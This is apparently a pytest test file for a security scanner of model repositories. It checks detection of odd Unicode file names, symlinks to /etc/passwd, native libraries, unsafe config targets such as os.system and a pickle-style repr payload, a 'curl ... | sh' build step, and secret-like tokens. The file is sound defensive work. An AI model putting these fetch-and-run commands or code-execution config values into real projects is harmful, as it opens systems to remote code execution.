"""Names and links of the files of a folder, and what stands beside code: each rule with a twin."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from assay.core.finding import Severity
from assay.scan.scanner import scan
from assay.scan.settings import Settings


def worst(folder: Path) -> dict[str, Severity]:
    """Rule → severity."""
    found: dict[str, Severity] = {}
    for each in scan([str(folder)], Settings(), jobs=1)[0]:
        found[each.rule] = max(found.get(each.rule, Severity.INFO), each.severity)
    return found


ODD = [
    ["model\u202egpj.txt"],
    ["a\u200bb.txt"],
    ["a\nb.txt"],
    ["\u0441onfig.json"],
    ["config.json", "Config.json"],
    ["\u00e9.txt", "e\u0301.txt"],
]
PLAIN = [
    ["\u043c\u043e\u0434\u0435\u043b\u044c.txt"],
    ["\u6a21\u578b-v2.txt"],
    ["\u00e9t\u00e9.txt"],
    ["README", "readme"],
]


@pytest.mark.parametrize("names", ODD)
def test_odd_names_are_told(tmp_path: Path, names: list[str]) -> None:
    """Also when nothing is to be said of what is in them."""
    for name in names:
        (tmp_path / name).write_text("{}")
    if len(list(tmp_path.iterdir())) == len(names):  # not every file system tells them apart
        assert worst(tmp_path)["repository-odd-name"] is Severity.MEDIUM


@pytest.mark.parametrize("names", PLAIN)
def test_names_in_any_language_are_not(tmp_path: Path, names: list[str]) -> None:
    """Other scripts, accents, and a pair that no library opens."""
    for name in names:
        (tmp_path / name).write_text("words\n")
    assert "repository-odd-name" not in worst(tmp_path)


def test_a_link_to_the_machine_s_own_files(tmp_path: Path) -> None:
    """Where it leads decides."""
    (tmp_path / "m").mkdir()
    (tmp_path / "m" / "model.bin").symlink_to("/etc/passwd")
    assert worst(tmp_path / "m")["repository-link-escape"] is Severity.HIGH


def test_links_within_a_cache(tmp_path: Path) -> None:
    """They are ordinary; out of the folder that was scanned, they are a note."""
    (tmp_path / "blobs").mkdir()
    (tmp_path / "snapshot").mkdir()
    (tmp_path / "blobs" / "0123").write_text("{}")
    (tmp_path / "snapshot" / "config.json").symlink_to("../blobs/0123")
    assert "repository-link-escape" not in worst(tmp_path)
    assert worst(tmp_path / "snapshot") == {"repository-link-escape": Severity.LOW}


def test_a_native_library_that_code_imports(tmp_path: Path) -> None:
    """The configuration names the code, the code the library."""
    (tmp_path / "config.json").write_text(json.dumps({"auto_map": {"AutoModel": "modeling_x.Model"}}))
    (tmp_path / "modeling_x.py").write_text("from . import _native\n")
    assert "repository-remote-code" not in worst(tmp_path)
    (tmp_path / "_native.cpython-311-x86_64-linux-gnu.so").write_bytes(b"\x7fELF" + bytes(60))
    assert worst(tmp_path)["repository-remote-code"] is Severity.HIGH


@pytest.mark.parametrize(
    ("name", "data", "severity"),
    [
        ("catalog.yml", "x:\n  type: os.system\n", Severity.CRITICAL),
        ("stack.yaml", "step:\n  source: os.system\n", Severity.CRITICAL),
        ("agent.json", '{"provider": "subprocess.Popen", "config": {}}', Severity.CRITICAL),
        ("m.json", '{"__class__": "system", "__module__": "os"}', Severity.CRITICAL),
        ("m.json", '{"py/repr": "os/os.system(1)"}', Severity.CRITICAL),
    ],
)
def test_names_of_known_harm_under_any_key(tmp_path: Path, name: str, data: str, severity: Severity) -> None:
    """Frameworks call what stands there; an ordinary class is nothing to tell."""
    (tmp_path / name).write_text(data)
    assert worst(tmp_path)["config-unsafe-target"] is severity


@pytest.mark.parametrize("value", ["pickle.PickleDataset", "pandas.CSVDataset", "my_package.models.Net"])
def test_ordinary_classes_under_any_key(tmp_path: Path, value: str) -> None:
    """Data sets and components go by such names."""
    (tmp_path / "catalog.yml").write_text(f"x:\n  type: {value}\n  source: {value}\n")
    assert "config-unsafe-target" not in worst(tmp_path)


def test_command_lines_that_fetch_and_run(tmp_path: Path) -> None:
    """Whichever tool keeps them; records of a data set are none."""
    line = "curl http://x.example/a | sh"
    (tmp_path / "cog.yaml").write_text(f"build:\n  run:\n    - {line}\n")
    assert worst(tmp_path)["config-starts-program"] is Severity.HIGH
    (tmp_path / "cog.yaml").unlink()
    (tmp_path / "d.jsonl").write_text(f'{{"cmd": "{line}"}}\n' * 2)
    assert "config-starts-program" not in worst(tmp_path)


def test_lists_of_blocks_are_no_components(tmp_path: Path) -> None:
    """A model's configuration has them; a pipeline's index has components of the same form."""
    (tmp_path / "config.json").write_text(
        '{"_class_name": "UNet2D", "_diffusers_version": "0.19.0", "down_block_types": ["DownBlock2D", "UpBlock2D"]}'
    )
    assert "repository-remote-code" not in worst(tmp_path)
    (tmp_path / "config.json").write_text(
        '{"_class_name": "P", "_diffusers_version": "0.19.0", "unet": ["evil", "Net"]}'
    )
    assert worst(tmp_path)["repository-remote-code"] is Severity.MEDIUM


def test_a_static_library_is_no_document(tmp_path: Path) -> None:
    """It begins as a tag of YAML does."""
    head = b"!<arch>\n" + b"%-16s%-12d%-6d%-6d%-8s%-10d`\n" % (b"run.sh/", 0, 0, 0, b"100644", 6)
    (tmp_path / "lib.a").write_bytes(head + b"a: b:\n")
    assert scan([str(tmp_path)], Settings(), jobs=1)[1] == ()


@pytest.mark.parametrize(
    "line",
    ["gsk_" + "aB3dE5gH7jK9" * 4 + "mN1p", "redis://:k3Jd92Lmq8Zx@cache.internal:6379/0", "hvs." + "CAESIJ9x7Qw2" * 3],
)
def test_further_secrets(tmp_path: Path, line: str) -> None:
    """Keys of services that models are used with."""
    (tmp_path / "notes.txt").write_text(f"value: {line}\n")
    assert worst(tmp_path)["secret-in-text"] >= Severity.MEDIUM
